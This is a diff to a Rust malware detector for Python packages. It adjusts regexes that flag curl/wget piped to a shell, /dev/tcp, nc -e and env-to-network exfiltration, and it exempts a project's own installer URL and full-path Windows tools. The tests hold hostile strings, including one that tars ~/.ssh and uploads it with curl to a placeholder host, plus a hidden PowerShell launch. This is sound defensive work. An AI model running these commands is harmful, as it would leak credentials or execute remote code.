@@ -340,13 +340,44 @@ pub fn pip_install_from_vcs(command: &str) -> Option<String> {
 /// environment piped to a network tool.
 static SHELL_PAYLOAD: LazyLock<Regex> = crate::static_regex!(
     r"(?ix)
-    \b(curl|wget)\b[^\n]{0,300}\|\s*(sudo\s+)?(ba|z|da)?sh\b
+    \b(curl|wget)\b[^|\n]{0,300}(://|\b[a-z0-9-]+\.[a-z]{2,}\b)[^\n]{0,300}\|\s*(sudo\s+)?(ba|z|da)?sh\b
     | /dev/tcp/[0-9a-z]
     | \bbash\s+-i\s*>&
     | \bnc(\.exe)?\s+-[a-z]*e\s
     | (^|[\s;&(])(env|printenv)\s*\|\s*(curl|wget|nc)\b
     "
 );
+
+/// True when a URL of `command` is on a host named after the project the file belongs to (the
+/// first folder of `path`, less its version: `vastai-1.9.1/…` and `vast.ai`).
+fn names_own_host(path: &str, command: &str) -> bool {
+    let squash = |text: &str| -> String {
+        text.chars()
+            .filter(char::is_ascii_alphanumeric)
+            .map(|c| c.to_ascii_lowercase())
+            .collect()
+    };
+    let top = path.split('/').next().unwrap_or("");
+    let project = top
+        .rsplit_once('-')
+        .filter(|(_, version)| version.starts_with(|c: char| c.is_ascii_digit()))
+        .map_or(top, |(name, _)| name);
+    let project = squash(project);
+    if project.len() < 4 {
+        return false;
+    }
+    command
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')'))
+        .filter_map(|word| {
+            word.strip_prefix("https://")
+                .or_else(|| word.strip_prefix("http://"))
+        })
+        .take(8)
+        .any(|rest| {
+            let host = rest.split(['/', ':', '?']).next().unwrap_or(rest);
+            squash(host).contains(&project)
+        })
+}
 
 /// A literal that is a shell payload (see [`SHELL_PAYLOAD`]) or ships a credential store,
 /// wherever the code hands it: to `os.system`, but also to runners a detector does not list
@@ -364,6 +395,9 @@ pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRang
     }
     let context = checker.context();
     let severity = match context {
+        // `INSTALL_HINT = 'curl -fsSL https://vast.ai/install.sh | bash'`: shown, not run; and
+        // a project's own installer is how it tells users to update.
+        _ if checker.in_documentation_value() || names_own_host(checker.path, value) => 0.05,
         ExecContext::Install | ExecContext::Import => 0.75,
         ExecContext::Runtime if fetches_from_bare_address(value) => 0.5,
         ExecContext::Runtime => 0.3,
@@ -736,7 +770,21 @@ fn starts_interpreter(command: &str) -> bool {
 
 /// True when a command line hides, persists or hands over to another interpreter.
 pub fn is_shell_trick(command: &str) -> bool {
-    SHELL_TRICK_COMMAND.is_match(command)
+    SHELL_TRICK_COMMAND.is_match(command) && !runs_installed_windows_tool(command)
+}
+
+/// `C:\Program Files (x86)\Microsoft Visual Studio\Installer\vswhere.exe -latest …`: a program
+/// an installer put under Program Files or the Windows folder, started by its full path and
+/// with no other trick in the line. Build scripts locate compilers that way; a payload is
+/// dropped where the user can write.
+fn runs_installed_windows_tool(command: &str) -> bool {
+    static INSTALLED: LazyLock<Regex> = crate::static_regex!(
+        r#"(?i)^\s*["']?(c:\\(program files( \(x86\))?|windows\\system32)\\|%(programfiles(\(x86\))?|systemroot|windir)%\\)[^"'&|;<>]*\.exe["']?(\s[^&|;<>]*)?$"#
+    );
+    static OTHER_TRICK: LazyLock<Regex> = crate::static_regex!(
+        r"(?i)\b(powershell|pwsh|rundll32|regsvr32|mshta|wscript|cscript|schtasks|cmd(\.exe)?\s+/c)\b"
+    );
+    INSTALLED.is_match(command) && !OTHER_TRICK.is_match(command)
 }
 
 /// `SimpleXMLRPCServer(…).register_function(os.system, 'run')`: a process-starting (or code
@@ -2158,6 +2206,17 @@ mod tests {
     }
 
     #[test]
+    fn installed_windows_tools_started_by_full_path_are_no_trick() {
+        assert!(!is_shell_trick(
+            r"C:\Program Files (x86)\Microsoft Visual Studio\Installer\vswhere.exe -latest -find **\Hostx64\x64"
+        ));
+        assert!(is_shell_trick(r"C:\Users\u\AppData\Local\Temp\svc.exe"));
+        assert!(is_shell_trick(
+            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -c x"
+        ));
+    }
+
+    #[test]
     fn a_shell_given_as_a_pager_runs_the_text() {
         let pager = "import pydoc\nscript = 'tar czf - ~/.ssh | curl -T - https://x.invalid/u'\npydoc.pipepager(script, 'sh')\n";
         assert!(max_severity("p/pkg/__init__.py", pager, "WH120") >= 0.7);
@@ -2178,6 +2237,13 @@ mod tests {
         assert!(max_severity("p/pkg/build.py", hint, "WH120") <= 0.3);
         let template = "DOCKERFILE = '''FROM python:3.12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nRUN pip install .\n'''\n";
         assert!(max_severity("p/pkg/__init__.py", template, "WH120") < 0.1);
+        let hint = "INSTALL_SH_HINT = 'curl -fsSL https://vast.ai/install.sh | bash'\n";
+        assert!(max_severity("p/pkg/__init__.py", hint, "WH120") < 0.1);
+        let own = "UPDATE = 'curl -fsSL https://vast.ai/install.sh | bash'\n";
+        assert!(max_severity("vastai-1.9/vastai/cli.py", own, "WH120") < 0.1);
+        assert!(max_severity("other-1.0/other/cli.py", own, "WH120") >= 0.7);
+        let label = "PATTERNS = [('wget_sh', 'Download and run (wget | sh)')]\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", label, "WH120"), 0.0);
         let fixture = "CMD = 'curl -s https://x.invalid/a.sh | sh'\n";
         assert!(max_severity("p/tests/test_cmd.py", fixture, "WH120") < 0.1);
     }
